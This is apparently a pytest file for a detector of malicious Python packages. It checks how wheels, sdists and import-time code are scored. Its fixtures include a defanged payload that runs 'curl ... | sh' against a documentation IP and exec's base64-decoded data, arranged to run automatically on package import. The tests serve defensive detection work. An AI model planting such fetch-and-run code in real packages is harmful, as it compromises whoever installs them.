"""Whole uploads (issue 18 items 1 and 3): wheels and sdists of the same code score the
same, import-time code weighs like install-time code, installed distributions load as
benign whole packages, and the model's tokens hold no layout. Fixtures are hand-written
and defanged (documentation addresses); nothing is run."""

from __future__ import annotations

import warnings

import pytest
from code_fixtures import BENIGN_CORE, BENIGN_INIT, write_sdist, write_zip

from detector.code.analyze import analyze
from detector.code.corpus import CORPUS_FILE_CHARS, Sample, is_forward
from detector.code.installed import CORPUS_MAX_FILES, installed_samples, select_files
from detector.code.scan import scan_files, scan_path
from detector.policy import load_policy

PAYLOAD_MAIN = '''\
import os
import base64


def run():
    os.system("curl -s http://203.0.113.9/stage.sh | sh")
    exec(base64.b64decode("cHJpbnQoMSk="))
'''
PAYLOAD_INIT = '"""Tidy helpers."""\nfrom .main import run\n\nrun()\n'
SETUP = 'from setuptools import setup\n\nsetup(name="tidy", version="1.0", packages=["tidy"])\n'
PYPROJECT = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
WHEEL_META = {
    "tidy-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: tidy\nVersion: 1.0\n",
    "tidy-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    "tidy-1.0.dist-info/RECORD": "tidy/__init__.py,,\ntidy/main.py,,\n",
}


def _both(tmp_path, code: dict[str, str]):
    sdist = write_sdist(tmp_path / "tidy-1.0.tar.gz",
                        {"setup.py": SETUP, "pyproject.toml": PYPROJECT,
                         "PKG-INFO": "Name: tidy\n", **code}, top="tidy-1.0")
    wheel = write_zip(tmp_path / "tidy-1.0-py3-none-any.whl", {**code, **WHEEL_META})
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return scan_path(sdist), scan_path(wheel)


def test_wheel_and_sdist_of_the_same_malicious_code_score_the_same(tmp_path):
    sdist, wheel = _both(tmp_path, {"tidy/__init__.py": PAYLOAD_INIT,
                                    "tidy/main.py": PAYLOAD_MAIN})
    assert sdist.error is None and wheel.error is None
    assert sdist.score == pytest.approx(wheel.score, abs=1e-9)
    assert sdist.flagged and wheel.flagged
    # the payload runs at first import (`from .main import run; run()`): import tier
    tiers = {f.tier for f in wheel.findings if f.file == "tidy/main.py"}
    assert tiers == {"import"}


def test_wheel_and_sdist_of_the_same_benign_code_score_the_same(tmp_path):
    sdist, wheel = _both(tmp_path, {"tidy/__init__.py": BENIGN_INIT,
                                    "tidy/core.py": BENIGN_CORE})
    assert sdist.score == pytest.approx(wheel.score, abs=1e-9)
    assert not sdist.flagged and not wheel.flagged


def test_wheel_pth_and_data_scripts_run_uncalled(tmp_path):
    wheel = write_zip(tmp_path / "tidy-1.0-py3-none-any.whl", {
        "tidy/__init__.py": "", "tidy/util.py": "import os\n\ndef f():\n    os.system('x')\n",
        "tidy-1.0.data/scripts/tidy-tool": "#!python\nimport os\nos.system('echo hi')\n",
        **WHEEL_META})
    result = scan_path(wheel)
    spawn = {f.file: f.tier for f in result.findings if f.rule == "process-spawn"}
    assert spawn["tidy-1.0.data/scripts/tidy-tool"] == "install"
    # a module nobody imports at import time only runs when called
    assert spawn["tidy/util.py"] == "other"


def test_import_time_weighs_like_install_time():
    tiers = load_policy().code.tiers
    assert tiers.import_ == tiers.install
    setup_only = scan_files({"setup.py": "import os\nos.system('curl -s http://203.0.113.9/a"
                                         " | sh')\n"})
    in_init = scan_files({"tidy/__init__.py": "from .m import go\ngo()\n",
                          "tidy/m.py": "import os\n\ndef go():\n    os.system('curl -s "
                                       "http://203.0.113.9/a | sh')\n"})
    assert in_init.rule_score == pytest.approx(setup_only.rule_score)


def test_namespace_package_init_is_import_time():
    files = {"src/acme/plugins/foo/__init__.py": "from .hook import go\n",
             "src/acme/plugins/foo/hook.py": "def go():\n    pass\n",
             "src/acme/plugins/foo/extra.py": "X = 1\n",
             "tests/__init__.py": ""}
    tiers = analyze(files).tiers
    assert tiers["src/acme/plugins/foo/__init__.py"] == "import"
    assert tiers["src/acme/plugins/foo/hook.py"] == "import"
    assert tiers["src/acme/plugins/foo/extra.py"] == "other"
    assert tiers["tests/__init__.py"] == "test"


def test_tokens_hold_no_layout_or_local_names():
    files = {"setup.py": SETUP, "pyproject.toml": PYPROJECT,
             "tidy/__init__.py": PAYLOAD_INIT, "tidy/main.py": PAYLOAD_MAIN,
             "tests/test_main.py": "from tidy.main import run\n\ndef test_run():\n    run()\n"}
    tokens = analyze(files).tokens
    assert not [t for t in tokens if t.startswith("file|")]
    assert not [t for t in tokens if "tidy" in t or "main" in t or "run" in t]
    assert "hot|c:os.system" in tokens and "hot|c:base64.b64decode" in tokens
    assert not [t for t in tokens if "setuptools" in t]


def test_select_files_applies_corpus_caps():
    files = {f"pkg/m{i:03d}.py": "x" * (CORPUS_FILE_CHARS + 5) for i in range(CORPUS_MAX_FILES + 9)}
    files["README.md"] = "hello"
    chosen = select_files(files)
    assert len(chosen) == CORPUS_MAX_FILES and "README.md" not in chosen
    assert all(len(v) == CORPUS_FILE_CHARS for v in chosen.values())


def test_installed_distributions_load_as_benign_whole_packages(tmp_path):
    site = tmp_path / "venv" / "lib" / "python3.11" / "site-packages"
    (site / "tidy").mkdir(parents=True)
    (site / "tidy" / "__init__.py").write_text("from .core import Widget\n")
    (site / "tidy" / "core.py").write_text("y" * (CORPUS_FILE_CHARS + 10))
    (site / "tidy" / "data.json").write_text("{}")
    info = site / "tidy-1.0.dist-info"
    info.mkdir()
    (info / "RECORD").write_text(
        "tidy/__init__.py,sha256=x,1\ntidy/core.py,,\ntidy/data.json,,\n"
        "tidy/__pycache__/core.cpython-311.pyc,,\n../../bin/tidy,,\n"
        "tidy-1.0.dist-info/RECORD,,\n")
    (site / "norecord-0.1.dist-info").mkdir()  # no RECORD: nothing to read
    editable = site / "editable-0.2.dist-info"
    editable.mkdir()
    (editable / "RECORD").write_text("_editable_impl_editable.pth,,\n")
    (site / "_editable_impl_editable.pth").write_text("/src/editable\n")
    (editable / "direct_url.json").write_text('{"url": "file:///src", "dir_info": '
                                              '{"editable": true}}')
    samples = list(installed_samples(tmp_path / "venv"))
    assert [s.sample_id for s in samples] == ["installed:tidy-1.0"]
    (sample,) = samples
    assert sample.label == 0 and sorted(sample.files) == ["tidy/__init__.py", "tidy/core.py"]
    assert len(sample.files["tidy/core.py"]) == CORPUS_FILE_CHARS


def test_forward_split_by_date_and_stable_group():
    old = Sample("a", "a", {}, 1, first_seen="2023-06-30")
    new = Sample("b", "b", {}, 1, first_seen="2023-07-01")
    assert not is_forward(old) and is_forward(new)
    one = [is_forward(Sample(str(i), "n", {}, 0, group="org/repo")) for i in range(20)]
    assert len(set(one)) == 1  # one repository's packages stay on one side
    sides = [is_forward(Sample(str(i), f"name{i}", {}, 0)) for i in range(400)]
    assert 0.2 < sum(sides) / len(sides) < 0.4


def test_packages_of_one_repository_share_a_group():
    import numpy as np

    from detector.code.train import merge_groups

    clusters = np.array([0, 1, 2, 3, 4])
    groups = merge_groups(clusters, ["org/a", "", "org/a", "org/b", "org/b"])
    assert groups[0] == groups[2] and groups[3] == groups[4]
    assert len({groups[0], groups[1], groups[3]}) == 3
